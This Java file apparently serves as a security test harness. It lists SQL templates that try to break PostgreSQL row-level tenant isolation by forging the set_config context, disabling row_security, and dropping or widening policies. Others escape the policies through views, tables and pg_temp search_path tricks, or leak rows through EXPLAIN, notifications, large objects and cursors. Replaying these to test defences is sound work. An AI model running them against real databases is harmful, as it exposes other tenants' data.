package dev.mullion.challenge;

import java.util.List;

/**
 * What was found to work against textbook row security, played as it worked there: the lab findings, by their numbers.
 */
final class LabTricks {

    private static final String READ = "select {c} from {t}";

    static final List<Trick> ALL = List.of(
            lab(
                    1,
                    "one set_config in a condition",
                    "set enable_indexscan = off; set enable_bitmapscan = off",
                    READ + " where set_config('mullion.context', '{n}', true) is not null",
                    READ
                            + " where set_config('mullion.context', replace(current_setting('mullion.context'), '{s}', '{n}'), true) <> ''"),
            lab(
                    2,
                    "a context that was planned as if it never changed",
                    "create function mullion.mine() returns uuid immutable language sql as $$ select mullion.workspace() $$",
                    "set plan_cache_mode = force_generic_plan",
                    "prepare p as " + READ + " where workspace_id = mullion.workspace()",
                    "execute p",
                    "select set_config('mullion.context', '{n}', true); execute p",
                    "reset mullion.context; execute p"),
            lab(
                    3,
                    "a row that hangs on another's",
                    "insert into mullion.canary (workspace_id, id, parent, note)"
                            + " select '{s}', gen_random_uuid(), id, '' from mullion.canary",
                    "insert into mullion.pull_request select * from mullion.pull_request where workspace_id = '{n}' returning *",
                    "delete from mullion.repository where workspace_id = '{n}' returning *"),
            Trick.twins(
                    "lab-4",
                    "a value that only one may have",
                    "insert into mullion.label values ('{s}', 'repository', 8, '{flag}', now()) on conflict do nothing",
                    "delete from mullion.label where external_id = 8",
                    "explain (analyze, buffers off, timing off, summary off) select 1 from {t} where {c} = '{flag}'"),
            Trick.twins(
                    "lab-5",
                    "estimates from everybody's rows",
                    "explain select * from {t} where {c} = '{flag}'",
                    "explain (analyze, buffers off, timing off, summary off) select * from {t} where {c} >= '{start}'"),
            lab(
                    6,
                    "a twin without row security",
                    "create table mullion.twin (like {t} including all); insert into mullion.twin select * from {t}",
                    "create table mullion.kept as " + READ,
                    "create or replace view mullion.seen with (security_invoker = false) as " + READ,
                    "create table mullion.part partition of {t} default"),
            lab(
                    7,
                    "what crosses on a connection",
                    "create temporary table kept as " + READ,
                    "declare kept cursor with hold for " + READ,
                    "fetch all from kept",
                    "select lo_from_bytea(0, convert_to({c}, 'UTF8')) from {t}",
                    "select pg_notify('kept', {c}) from {t}",
                    "select query from pg_stat_activity",
                    "discard all; " + READ),
            lab(
                    8,
                    "a table of one's own before the definer's",
                    "create temporary table key (id int, inner_pad bytea, outer_pad bytea)",
                    "create temporary table workspace as select '{n}'::uuid as id",
                    "set search_path = pg_temp, mullion, pg_catalog; " + READ,
                    "create function pg_temp.sha256(bytea) returns bytea language sql as $$ select $1 $$; " + READ),
            lab(
                    9,
                    "verbs that forget the policies",
                    "set row_security = off; " + READ,
                    "copy {t} from stdin",
                    "merge into {t} x using (select 1) y on true when matched then do nothing returning x.*",
                    "select {c}::int from {t}"),
            lab(
                    10,
                    "a context that is forged, injected or used again",
                    "begin",
                    "select set_config('mullion.context', '{n}' || substr(current_setting('mullion.context'), 37), true)",
                    READ,
                    "rollback",
                    "select set_config('mullion.context', current_setting('mullion.context'), false)",
                    "select set_config('mullion.context', '{n}.00000000.999999999999.' || repeat('0', 97), false); "
                            + READ,
                    READ),
            lab(
                    11,
                    "a stray policy that lets everything through",
                    "create policy stray on {t} using (true)",
                    "alter policy own on {t} using (true)",
                    "drop policy floor on {t}",
                    READ));

    private LabTricks() {}

    private static Trick lab(int number, String name, String... statements) {
        return Trick.sql("lab-" + number, name, statements);
    }
}
